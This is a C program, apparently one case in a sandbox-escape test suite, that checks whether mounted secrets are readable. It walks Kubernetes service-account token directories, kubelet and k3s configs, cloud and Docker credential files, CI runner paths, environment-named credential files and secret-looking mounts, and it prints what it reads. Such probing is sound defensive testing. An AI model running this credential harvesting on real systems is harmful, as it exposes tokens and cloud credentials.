/* mounted_tokens: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* I02: mounted secrets: Docker/Kubernetes secrets, service-account tokens, CI runner credentials, cloud
 * credential files, kubelet and k3s configs, cloud-init user data; plus every mountinfo mount point whose
 * path names a secret or token. Everything read is printed (canary oracle). */
static void walk(const char *dir, int depth)
{
    DIR *d = opendir(dir);
    if (!d) { if (depth == 0) printf("opendir %s: %s\n", dir, strerror(errno)); return; }
    struct dirent *e; int n = 0;
    while ((e = readdir(d)) && n++ < 60) {
        if (e->d_name[0] == '.' && (!e->d_name[1] || e->d_name[1] == '.')) continue;
        char p[1024]; snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        struct stat st; if (stat(p, &st) != 0) continue;
        if (S_ISDIR(st.st_mode) && depth < 3) walk(p, depth + 1);
        else if (S_ISREG(st.st_mode)) dump_path(p, 400);
    }
    closedir(d);
}
int main(int argc, char **argv)
{
    if (argc > 1) NONCE = argv[1];
    const char *dirs[] = {"/run/secrets", "/var/run/secrets", "/var/run/secrets/kubernetes.io/serviceaccount",
        "/var/run/secrets/eks.amazonaws.com/serviceaccount", "/var/run/secrets/tokens", "/etc/secrets", "/secrets",
        "/etc/kubernetes", "/var/lib/kubelet", "/etc/rancher/k3s", "/var/lib/rancher/k3s/server", "/home/runner/work/_temp",
        "/github/workflow", "/builds/.gitlab-ci", "/var/lib/cloud/instance", "/run/credentials", "/etc/docker", "/root/.docker"};
    for (unsigned i = 0; i < sizeof dirs / sizeof *dirs; i++) walk(dirs[i], 0);
    const char *files[] = {"/var/run/secrets/kubernetes.io/serviceaccount/token", "/var/lib/kubelet/kubeconfig", "/etc/kubernetes/admin.conf",
        "/var/lib/cloud/instance/user-data.txt", "/etc/boto.cfg", "/etc/gcloud/credentials.json", "/run/user/0/containers/auth.json",
        "/etc/containers/auth.json", "/proc/self/root/run/secrets", "/tmp/.git-credentials"};
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) dump_path(files[i], 400);
    /* credential paths named by the environment */
    const char *envs[] = {"GOOGLE_APPLICATION_CREDENTIALS", "AWS_SHARED_CREDENTIALS_FILE", "KUBECONFIG", "AWS_WEB_IDENTITY_TOKEN_FILE", "DOCKER_CONFIG", "RUNNER_TEMP"};
    for (int i = 0; i < 6; i++) { const char *v = getenv(envs[i]); if (v) { printf("%s=%s\n", envs[i], v); dump_path(v, 400); walk(v, 1); } }
    FILE *m = fopen("/proc/self/mountinfo", "r");
    char l[2048];
    while (m && fgets(l, sizeof l, m)) {
        char root[512], mp[512];
        if (sscanf(l, "%*s %*s %*s %511s %511s", root, mp) == 2 && (strcasestr(mp, "secret") || strcasestr(mp, "token") || strcasestr(mp, "cred")))
        { printf("secret-looking mount %s\n", mp); walk(mp, 0); dump_path(mp, 400); }
    }
    if (m) fclose(m);
    return 0;
}
